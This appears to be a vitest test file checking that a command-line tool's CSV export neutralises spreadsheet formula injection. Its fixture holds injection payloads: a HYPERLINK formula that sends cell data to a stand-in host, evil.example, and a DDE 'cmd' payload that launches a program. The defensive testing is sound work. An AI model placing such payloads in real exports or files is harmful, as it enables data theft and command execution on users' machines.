/** Case 48: cells that a spreadsheet would run. */
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { print } from '../../src/output/print.ts';
import { memoryIo } from '../helpers/io.ts';
import { at, json, run, server } from './helpers.ts';

const customer = {
  id: 1,
  first_name: '=HYPERLINK("http://evil.example/?"&A1)',
  last_name: ' @SUM(1)',
  company_name: '-5',
  notes: "+cmd|' /C calc'!A0",
  email: '-2+3',
  phone_numbers: [{ number: '+15551234567', primary: true, type: 'Mobile' }],
  external_ids: ['=1'],
  '=key': '+15551234567',
};
const customers = () => server((_, response) => json(response, 200, { customers: [customer], meta: { total: 1 } }));

const FIELDS = 'first_name,last_name,company_name,notes,email,phone_numbers,external_ids';
const HEADER = `${FIELDS}\n`;

it('48: formulas are neutral; telephone numbers and numbers stay as they are', async () => {
  const words = ['customers', 'list', '-o', 'csv', '--fields', FIELDS];
  const { code, out } = await run(words, { env: at(await customers()) });
  expect(code).toBe(0);
  expect(out).toBe(
    `${HEADER}"'=HYPERLINK(""http://evil.example/?""&A1)",' @SUM(1),-5,'+cmd|' /C calc'!A0,'-2+3,` +
      '"[{""number"":""+15551234567"",""primary"":true,""type"":""Mobile""}]","[""=1""]"\n',
  );
});

it('48: so are the names of columns', async () => {
  const { out } = await run(['customers', 'list', '-o', 'csv'], { env: at(await customers()) });
  const [header, row] = out.split('\n');
  expect(header?.endsWith(",'=key")).toBe(true);
  expect(row?.endsWith(',+15551234567')).toBe(true);
});

it('48: --csv-raw gives the exact text', async () => {
  const words = ['customers', 'list', '-o', 'csv', '--fields', FIELDS, '--csv-raw'];
  const { out } = await run(words, { env: at(await customers()) });
  expect(out).toBe(
    `${HEADER}"=HYPERLINK(""http://evil.example/?""&A1)", @SUM(1),-5,+cmd|' /C calc'!A0,-2+3,` +
      '"[{""number"":""+15551234567"",""primary"":true,""type"":""Mobile""}]","[""=1""]"\n',
  );
});

it('48: no text becomes a formula', async () => {
  const cell = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', ' ', '\u00a0', '1', 'A', "'", '|'),
  });
  await fc.assert(
    fc.asyncProperty(cell, async (text) => {
      const io = memoryIo();
      const options = { format: 'csv', csvRaw: false, zone: undefined, quiet: true, color: false } as const;
      await print({ kind: 'record', record: { id: 1, text } }, options, io);
      const shown = io
        .out()
        .replace(/^id,text\n1,/, '')
        .replace(/^"/, '');
      // A telephone number may have hyphens: digits alone can do no harm.
      const isNumber = /^(?:[+-]\d+|\+\d[\d -]*)"?\n$/.test(shown);
      expect(isNumber || !/^\s*[=+\-@＝]|^[\t\r]/.test(shown.replace(/\n$/, ''))).toBe(true);
    }),
    { numRuns: 1_000 },
  );
});
